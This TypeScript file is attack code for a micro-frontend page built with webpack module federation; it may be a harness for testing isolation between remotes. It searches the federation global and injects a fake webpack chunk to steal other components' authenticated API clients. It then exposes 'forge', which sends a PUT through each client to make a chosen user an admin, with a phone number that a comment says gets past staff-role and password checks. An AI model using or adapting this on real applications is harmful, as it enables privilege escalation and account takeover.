/** What the shell answered to whoever asked it: `done`, or why not. */
type Told = string[]

declare global {
  /** Makes somebody an admin by whatever asks the API in this page. */
  var forge: ((userId: string) => Promise<Told>) | undefined
}

/**
 * Code of a remote that asks the API by the kits of others; runs in the page, beside the shell, as any remote does.
 * Written to be turned into text: it uses nothing from outside.
 */
export function forgers(): void {
  type Shell = { request: (call: object) => Promise<unknown> }

  /** Whatever the kits of this page call the shell: one's own, and those of other remotes that have been fetched. */
  function shellsOfKits(): Shell[] {
    const found: Shell[] = []
    const seen = new Set<unknown>()
    const search = (value: unknown, depth: number): void => {
      const isPrimitive = value === null || (typeof value !== 'object' && typeof value !== 'function')
      if (isPrimitive || depth > 9 || seen.size > 4000 || seen.has(value)) return
      seen.add(value)
      const give: unknown = Reflect.get(value, 'useShell')
      if (typeof give === 'function') found.push(give())
      const lib: unknown = Reflect.get(value, 'lib')
      if (typeof lib === 'function') search(lib(), depth + 1)
      for (const key of Reflect.ownKeys(value)) search(Reflect.get(value, key), depth + 1)
    }
    search(Reflect.get(globalThis, '__FEDERATION__'), 0)
    return found
  }

  /** The shell itself, whose kit signs nothing: by the modules that its bundler gives to whoever adds a piece. */
  function shellsOfModules(): Shell[] {
    const found: Shell[] = []
    const take = (modules: { (id: string): { useShell?: () => Shell }; m: Record<string, unknown> }) => {
      for (const [id, factory] of Object.entries(modules.m)) {
        if (!/useShell: ?\(\) ?=>/.test(String(factory))) continue
        try {
          const shell = modules(id).useShell?.()
          if (shell) found.push(shell)
        } catch {
          // Not to be had yet.
        }
      }
    }
    for (const name of Object.keys(globalThis).filter((key) => key.startsWith('webpackChunk'))) {
      const pieces: unknown = Reflect.get(globalThis, name)
      if (Array.isArray(pieces)) pieces.push([[`forger-${performance.now()}`], {}, take])
    }
    return found
  }

  globalThis.forge = (userId) => {
    const edit = {
      method: 'PUT',
      path: '/user/:userId/edit',
      params: { userId },
      // Without a number nobody takes a role of the staff, and nobody is asked for a password either.
      body: { role: 'admin', identity: { phone: '06 39 98 00 69' } },
      inline: true,
    }
    const words = (refusal: unknown) => JSON.stringify(refusal) ?? String(refusal)
    return Promise.all(
      [...shellsOfKits(), ...shellsOfModules()].map((shell) => shell.request(edit).then(() => 'done', words)),
    )
  }
}
